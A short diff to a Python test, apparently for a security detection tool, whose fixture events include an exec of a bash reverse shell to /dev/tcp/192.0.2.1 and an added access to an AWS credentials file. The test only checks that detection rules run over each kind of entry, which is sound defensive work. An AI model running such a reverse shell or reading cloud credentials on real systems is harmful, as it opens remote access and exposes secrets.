@@ -103,6 +103,7 @@ def test_the_packs_run_over_every_kind_of_entry(taken: Callable[..., Taken]) -> 
         [
             *session("r-1"),
             exec_("r-1", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1", program="/bin/bash"),
+            write("/home/u/.aws/credentials", "read"),
         ]
     )
     with Reader.open(directory()) as reader:
